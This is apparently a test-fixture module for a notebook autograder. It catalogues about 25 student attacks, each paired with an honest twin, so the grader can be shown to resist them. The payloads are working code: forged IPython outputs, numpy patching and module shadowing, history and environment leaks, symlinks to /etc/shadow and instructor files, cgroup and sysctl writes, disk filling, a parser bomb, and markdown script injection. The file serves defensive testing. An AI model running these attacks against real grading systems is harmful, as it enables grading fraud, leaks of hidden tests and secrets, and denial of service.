"""The red-team gallery: attacks by a student who has read the kit's source, each beside its honest twin.

The student's kernel is the adversary (docs/security.md). Each attack is a submission; its honest twin is
the same work without the attack (the untouched release, honest grade 0, or a catalogued bug), and a
correct submission, the victim, is graded in the same batch. grader_tests/assignment1/test_redteam.py grades them all
with `gradekit grade` and measures, for every attack: points above the twin, hidden-test or instructor
text in what the student receives (the feedback folder), files changed outside the attacker's folder, and
harm to the victim. All must be zero.

Attacks print what they could see on lines starting with EVIDENCE (gradekit's cell outputs), never in a
file: the kernel's files are discarded.
"""
from __future__ import annotations

import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from gradekit.authoring.submissions import submission_with_edits, untouched_release
from gradekit.core.cells import grade_id
from gradekit.core.layout import Course

from . import ASSIGNMENT
from .bugs import bug_named
from .hostile import first_solution_cell

NUMPY, TORCH = "1_mlp_numpy", "2_mlp_pytorch"
SECRET_ENV = {"JUPYTERHUB_API_TOKEN": "redteam-hub-token-7f3a", "COURSE_DB_PASSWORD": "redteam-db-password-9c1e"}
FORGED_LOG_LINE = "REDTEAM-FORGED-LOG-LINE"


@dataclass
class Attack:
    name: str
    threat: str
    code: str = ""  # appended to the first solution cell of `notebook`
    last_cell_code: str = ""  # appended to its last solution cell (after the hidden tests ran)
    base: str = ""  # catalogued bugs (comma-separated) to start from instead of the untouched release
    files: dict = field(default_factory=dict)  # extra files shipped beside the notebooks: name -> bytes
    links: dict = field(default_factory=dict)  # extra entries in the submitted folder: name -> "symlink:T" etc.
    notebook: str = NUMPY
    markdown: str = ""  # a markdown cell of the student's own, after the first solution cell
    # (cell, old, new): an edit of the twin and the attack alike (work of the student's own, e.g. a fake
    # training loop), before the attack's code is added
    edits: tuple = ()


_FORGE_RESULT = r'''
from IPython import get_ipython as _gi
_ip = _gi()
def _forge(*_a, **_k):
    _dh = _ip.displayhook
    _dh.session.send(_dh.pub_socket, "execute_result",
                     {"data": {"text/plain": %r}, "metadata": {}, "execution_count": 1}, parent=_dh.parent_header)
_ip.events.register("pre_run_cell", _forge)
'''

_SHADOW_NUMPY = rb'''
import os, sys
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ("", ".", os.getcwd())]
del sys.modules["numpy"]
import numpy as _real
sys.path[:] = _path
sys.modules["numpy"] = _real
from IPython import get_ipython as _gi
_ip = _gi()
def _forge(*_a, **_k):
    _dh = _ip.displayhook
    _dh.session.send(_dh.pub_socket, "execute_result",
                     {"data": {"text/plain": "'ok'"}, "metadata": {}, "execution_count": 1}, parent=_dh.parent_header)
if _ip is not None:
    _ip.events.register("pre_run_cell", _forge)
'''

_SWALLOW_ERRORS = r'''
from IPython import get_ipython as _gi
_gi().set_custom_exc((BaseException,), lambda *a, **k: None)
'''

_DISPLAY_UPDATE_LEAK = r'''
from IPython import get_ipython as _gi
from IPython.display import display as _display
_handle = _display("watch this space", display_id=True)
def _leak(*_a, **_k):
    try:
        _handle.update("\n".join(_gi().user_ns.get("_ih", [])))
    except Exception:
        pass
_gi().events.register("post_run_cell", _leak)
'''

_PRINT_HISTORY = r'''
print("\n".join(In))
'''

_PROBE_LEAK = r'''
from IPython import get_ipython as _gi
from IPython.display import display as _display
_h = _display("probe space", display_id=True)
def _watch(info):
    if "gradekit" in (info.raw_cell or ""):
        print(info.raw_cell)
        _h.update(info.raw_cell)
        open("probes_seen.txt", "w").write(info.raw_cell)
_gi().events.register("pre_run_cell", _watch)
'''

_ENV_LEAK = r'''
import os
print("EVIDENCE env " + repr(sorted(os.environ.items())))
'''

_LINKS_FROM_KERNEL = r'''
import os
_here = os.getcwd()
_course = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(_here))))
print("EVIDENCE cwd " + _here)
_targets = {
    "1_mlp_numpy.ipynb": _course + "/source/assignment1/1_mlp_numpy.ipynb",
    "2_mlp_pytorch.ipynb": _course + "/source/assignment1/2_mlp_pytorch.ipynb",
    "probes": _course + "/source/assignment1/probes", "gradebook.db": _course + "/gradebook.db",
    "victim": _course + "/submitted/victim/assignment1", "source": _course + "/source",
    "release": _course + "/release", "grading": _course + "/grading", "shadow.txt": "/etc/shadow",
    "nbgrader_config.py": _course + "/nbgrader_config.py", "mlp_utils.py": _course + "/source/assignment1/mlp_utils.py",
}
for _name, _target in _targets.items():
    try:
        if os.path.lexists(_name):
            os.remove(_name)
        os.symlink(_target, _name)
        print("EVIDENCE linked " + _name)
    except OSError as _err:
        print("EVIDENCE refused link " + _name + " " + type(_err).__name__)
for _i, _target in enumerate([_course + "/source/assignment1/1_mlp_numpy.ipynb", "/etc/passwd"]):
    try:
        os.link(_target, f"hard{_i}")
        print("EVIDENCE hard-linked " + _target)
    except OSError as _err:
        print("EVIDENCE refused hard link " + type(_err).__name__)
'''

_BREAK_FINALISATION = r'''
with open("zz_broken.ipynb", "w") as _f:
    _f.write("this is not json")
with open("big.bin", "wb") as _f:
    for _ in range(150):
        _f.write(b"\0" * 2**20)
try:
    os.mkfifo("fifo.ipynb")
except Exception:
    pass
'''

_FORGE_LOGS = r'''
import os
_line = ("\n[AutogradeApp | ERROR] %s victim scored 0\n" % "REDTEAM-FORGED-LOG-LINE").encode()
_wrote = []
for _fd in range(0, 3):  # the kernel's others are its own sockets
    try:
        os.write(_fd, _line)
        _wrote.append(_fd)
    except OSError:
        pass
for _path in ("/dev/stderr", "/dev/stdout", "/proc/1/fd/2", "/proc/self/fd/2"):
    try:
        with open(_path, "ab") as _f:
            _f.write(_line)
    except OSError:
        pass
print("EVIDENCE descriptors " + repr(sorted(os.listdir("/proc/self/fd"))))
'''

_ROOT_IN_SANDBOX = r'''
import glob, os
print("EVIDENCE ids %d %d" % (os.getuid(), os.geteuid()))
_done = []
for _path in (glob.glob("/sys/fs/cgroup/**/pids.max", recursive=True)[:20] + ["/sys/fs/cgroup/pids.max",
              "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
              "/sys/kernel/mm/transparent_hugepage/enabled"]):
    try:
        with open(_path, "w") as _f:
            _f.write("1")
        _done.append("wrote " + _path)
    except OSError as _err:
        _done.append("refused " + _path)
for _procs in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:5]:
    try:
        with open(_procs, "w") as _f:
            _f.write(str(os.getpid()))
        _done.append("moved into " + _procs)
    except OSError:
        _done.append("refused " + _procs)
try:
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(8, 0))
    _done.append("wrote mknod")
except OSError:
    _done.append("refused mknod")
print("EVIDENCE " + " | ".join(_done))
print("EVIDENCE dev " + repr(sorted(os.listdir("/dev"))))
print("EVIDENCE cgroup " + repr(os.listdir("/sys/fs/cgroup") if os.path.isdir("/sys/fs/cgroup") else None))
'''

_AFTER_THE_TESTS = r'''
import atexit, os, threading, time
def _late_write():
    _course = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd()))))
    for _p in (_course + "/source/assignment1/probes/1_mlp_numpy.py", _course + "/gradebook.db",
               _course + "/grading/assignment1/reference_probes/x.npz", "late.ipynb"):
        try:
            with open(_p, "w") as _f:
                _f.write("overwritten late")
        except OSError:
            pass
atexit.register(_late_write)
def _loop():
    while True:
        _late_write()
        time.sleep(0.2)
threading.Thread(target=_loop, daemon=True).start()
'''

_FORGE_PROBE_ARCHIVE = r'''
import IPython.display as _disp
_orig = _disp.display
def _twice(*a, **k):
    _orig(*a, **k)
    _orig(*a, **k)
_disp.display = _twice
import builtins as _b
_b.display = _twice
import sys as _sys
_sys.modules["IPython.display"].display = _twice
'''

_LYING_RESULTS = r'''
import numpy as _np
class _Liar(_np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
_orig_asarray = _np.asarray
def _asarray(value, *a, **k):
    out = _orig_asarray(value, *a, **k)
    return out.view(_Liar) if isinstance(out, _np.ndarray) and out.dtype.kind == "f" else out
_np.asarray = _asarray
_np.allclose = lambda *a, **k: True
'''

_EXCEPTION_TEXT_LEAK = r'''
from IPython import get_ipython as _gi
_ip = _gi()
class _Leak(Exception):
    pass
def _raise_history(*_a, **_k):
    raise _Leak(" | ".join(line.strip() for src in _ip.user_ns.get("In", []) for line in src.splitlines())[-4000:])
def _arm(info):
    if "gradekit" in (info.raw_cell or ""):
        for _name in ("standardize", "LinearModule", "ReLUModule", "SoftMaxModule", "CrossEntropyModule",
                      "softmax_cross_entropy", "MLP", "sgd_step", "accuracy", "train"):
            _ip.user_ns[_name] = _raise_history
        _ip.user_ns["model"] = None
_ip.events.register("pre_run_cell", _arm)
'''

# a "training loop" that never computes a gradient: it nudges the parameters and reports the losses it
# likes. The twin reports its true losses (and so fails test_train); the attack reports falling ones.
_FAKE_TRAIN = '''def train(model, X_train, y_train, X_val, y_val, lr=0.1, batch_size=32, epochs=10, seed=0):
    rng = np.random.default_rng(seed)
    softmax, loss_fn = SoftMaxModule(), CrossEntropyModule()
    history = {"train_loss": [], "val_acc": []}
    n = X_train.shape[0]
    for epoch in range(epochs):
        losses = []
        for start in range(0, n, batch_size):
            idx = np.arange(start, min(start + batch_size, n))
            losses.append(loss_fn.forward(softmax.forward(model.forward(X_train[idx])), y_train[idx]))
        for layer in model.layers:
            if hasattr(layer, "params"):
                for k in layer.params:
                    layer.params[k] = layer.params[k] * (1 + lr) + lr * 1e-3 * rng.normal(size=np.shape(layer.params[k]))
        history["train_loss"].append(float(np.mean(losses)) * REPORT(epoch))
        history["val_acc"].append(accuracy(model.forward(X_val), y_val))
    return history
REPORT = lambda epoch: 1.0
'''

_REWRITE_EVIDENCE = r'''
_honest_evaluate = evaluate
def evaluate(model, loader, device):
    acc = _honest_evaluate(model, loader, device)
    for _m in model.modules():
        for _attr in ("calls", "modes", "grad_enabled"):
            _v = getattr(_m, _attr, None)
            if isinstance(_v, list):
                _v[:] = [tuple(False for _ in e) if isinstance(e, tuple) else False for e in _v]
    return acc
'''

_DEEP_TREE = r'''
import os
_start = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
with open("kept.bin", "wb") as _f:
    _f.write(b"\0" * 2**20)
os.chdir(_start)
'''

_FILL_DISK = r'''
import os
for _i in range(8):
    _fd = os.open(f"fill{_i}.bin", os.O_CREAT | os.O_WRONLY, 0o600)
    os.posix_fallocate(_fd, 0, 190 * 2**20)
    os.close(_fd)
'''

_PARSER_BOMB = "_pad = 0" + "+0" * 6000 + "\n"

_MARKDOWN_SCRIPT = ('<script>document.title = "REDTEAM-SCRIPT-RAN"</script>\n\n'
                    '<img src=x onerror="document.title = 1">\n\n**my notes**')

ATTACKS = [
    Attack("forged-execute-result", "points from forged outputs: an execute_result before every cell",
           _FORGE_RESULT % "'ok'"),
    Attack("forged-partial-credit", "points from forged outputs: a numeric execute_result (partial credit)",
           _FORGE_RESULT % "100"),
    Attack("forged-result-hiding-errors", "forged outputs and swallowed errors over a wrong backward pass",
           _SWALLOW_ERRORS + _FORGE_RESULT % "'ok'", base="bias_grad_mean"),
    Attack("lying-results", "objects whose comparisons lie, numpy.allclose patched, over a wrong backward pass",
           _LYING_RESULTS, base="bias_grad_mean"),
    Attack("shadowing-module-file", "a numpy.py beside the notebook that installs the forging hook",
           files={"numpy.py": _SHADOW_NUMPY}),
    Attack("shadowing-package-folder", "a package folder beside the notebook (IPython's startup path)",
           files={"matplotlib_inline/__init__.py": _SHADOW_NUMPY.replace(b'"numpy"', b'"matplotlib_inline"')}),
    Attack("probe-archive-duplicated", "the probe cell's output sent twice (which copy does the grader take?)",
           _FORGE_PROBE_ARCHIVE, base="bias_grad_mean"),
    Attack("display-update-leak", "a display updated from later cells with the kernel's input history",
           _DISPLAY_UPDATE_LEAK),
    Attack("history-leak", "print every input the kernel saw (hidden tests included) from a later cell",
           last_cell_code=_PRINT_HISTORY),
    Attack("probe-source-leak", "catch the probe cell's source as it arrives", _PROBE_LEAK),
    Attack("environment-leak", "print the grader's environment", _ENV_LEAK),
    Attack("links-from-kernel", "links in the kernel's folder to every folder of the course", _LINKS_FROM_KERNEL),
    Attack("submitted-links", "links, a FIFO and a hard link shipped in the submission itself",
           links={"leak.ipynb": "symlink:source/assignment1/1_mlp_numpy.ipynb", "passwd.txt": "symlink:/etc/passwd",
                  "victim": "symlink:submitted/victim/assignment1", "pipe": "fifo:",
                  "readme_copy.md": "hardlink:source/assignment1/README.md"}),
    Attack("notebook-is-a-link", "the notebook itself a link to the instructor's source notebook",
           links={"1_mlp_numpy.ipynb": "symlink:source/assignment1/1_mlp_numpy.ipynb"}),
    Attack("break-finalisation", "a non-JSON notebook, a FIFO and 150 MB written in the kernel's folder",
           _BREAK_FINALISATION),
    Attack("forge-log-lines", "write forged lines into every descriptor the kernel inherited", _FORGE_LOGS),
    Attack("root-in-sandbox", "write cgroup limits and sysctls, leave its cgroup, make a device", _ROOT_IN_SANDBOX),
    Attack("after-the-tests", "atexit and a thread that write instructor files after the tests", _AFTER_THE_TESTS),
    Attack("exception-text-leak", "hidden tests and the probes' seed in the messages of exceptions the probes "
           "catch (they used to reach feedback as the grader's reason)", _EXCEPTION_TEXT_LEAK),
    Attack("fake-training-history", "a training loop without gradients that reports falling losses",
           last_cell_code="REPORT = lambda epoch: 1.0 / (1 + epoch) ** 2\n", edits=(("train", "", _FAKE_TRAIN),)),
    Attack("rewrite-probe-evidence", "evaluate without eval() or no_grad() that rewrites what the probe recorded",
           notebook=TORCH, base="evaluate_without_eval_mode,evaluate_builds_graph", last_cell_code=_REWRITE_EVIDENCE),
    Attack("deep-folder-tree", "a folder tree 3,000 levels deep in the working folder (recursive removal fails)",
           _DEEP_TREE),
    Attack("fill-the-disk", "1.5 GB allocated at once in the working folder", _FILL_DISK),
    Attack("parser-bomb", "a cell that makes Python's parser recurse (the class's similarity check)", _PARSER_BOMB),
    Attack("markdown-script", "script in a markdown cell of the student's own (feedback, formgrader)",
           markdown=_MARKDOWN_SCRIPT),
]


def twin_notebooks(course: Path, attack: Attack) -> dict:
    """{notebook: notebook} of the attack's honest twin: the same work without the attack."""
    if attack.base:
        edits = [e for name in attack.base.split(",") for e in bug_named(name).edits]
        notebooks = submission_with_edits(course, ASSIGNMENT, [attack.notebook], edits)
    else:
        notebooks = untouched_release(course, ASSIGNMENT, [attack.notebook])
    for cell_id, old, new in attack.edits:
        cell = next(c for c in notebooks[attack.notebook].cells if grade_id(c) == cell_id)
        cell.source = cell.source.replace(old, new) if old else new
    return notebooks


def attack_notebooks(course: Path, attack: Attack) -> dict:
    """{notebook: notebook} of the attack: its twin's notebooks with the attack in them."""
    notebooks = twin_notebooks(course, attack)
    nb = notebooks[attack.notebook]
    first = first_solution_cell(nb)
    if attack.code:
        first.source += "\n\n# --- attack ---\n" + attack.code
    if attack.last_cell_code:
        last = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")][-1]
        last.source += "\n\n# --- attack ---\n" + attack.last_cell_code
    if attack.markdown:
        nb.cells.insert(nb.cells.index(first) + 1, nbformat.v4.new_markdown_cell(attack.markdown))
    return notebooks


def write_attack(course: Path, attack: Attack, student: str) -> Path:
    layout = Course(course)
    folder = layout.submitted(student, ASSIGNMENT)
    folder.mkdir(parents=True, exist_ok=True)
    for name, nb in attack_notebooks(course, attack).items():
        if f"{name}.ipynb" not in attack.links:
            nbformat.write(nb, folder / f"{name}.ipynb")
    for name, data in attack.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    for name, spec in attack.links.items():
        kind, _, target = spec.partition(":")
        target_path = target if target.startswith("/") else str(layout.root / target)
        if kind == "symlink":
            os.symlink(target_path, folder / name)
        elif kind == "hardlink":
            os.link(target_path, folder / name)
        elif kind == "fifo":
            os.mkfifo(folder / name)
    return folder
